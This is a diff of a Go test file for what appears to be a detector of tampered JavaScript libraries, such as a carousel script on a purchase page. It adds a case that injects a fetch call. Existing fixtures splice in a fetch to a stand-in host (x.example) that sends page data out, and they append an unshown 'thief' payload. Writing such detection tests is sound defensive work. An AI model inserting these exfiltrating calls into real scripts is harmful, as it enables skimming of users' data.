@@ -92,6 +92,7 @@ func TestLibraries(t *testing.T) {
 		"two places, nothing":      {"x.js", strings.NewReplacer("* 3 ", "* 77 ", "* 30 ", "* 333 ").Replace(library("1.0")), tillwatch.Low, tillwatch.Likely, 6, doesNothing},
 		"two places, one sends":    {"x.js", strings.NewReplacer("return a.slides * 3 ", "return fetch('https://x.example/' + a.slides), a.slides * 3 ", "* 30 ", "* 333 ").Replace(library("1.0")), tillwatch.High, tillwatch.Likely, 6, doesSome},
 		"a version nobody lists":   {"x.js", strings.NewReplacer("v1.0", "v1.2", "* 3 ", "* 33 ", "* 30 ", "* 333 ").Replace(library("1.0")), 0, 0, 0, ""},
+		"a build of its own":       {"x.js", strings.NewReplacer("* 3 ", "* fetch('/a') ", "* 6 ", "* 606 ", "* 9 ", "* 909 ", "* 12 ", "* 122 ", "* 15 ", "* 155 ", "* 18 ", "* 188 ").Replace(library("1.0")), tillwatch.Low, tillwatch.Likely, 6, looksBuilt},
 		"something else entirely":  {"x.js", own, 0, 0, 0, ""},
 		"Japanese before the code": {"carousel.js", "/* 購入画面 */" + library("1.0") + thief, tillwatch.High, tillwatch.Certain, 44, doesSome},
 	} {
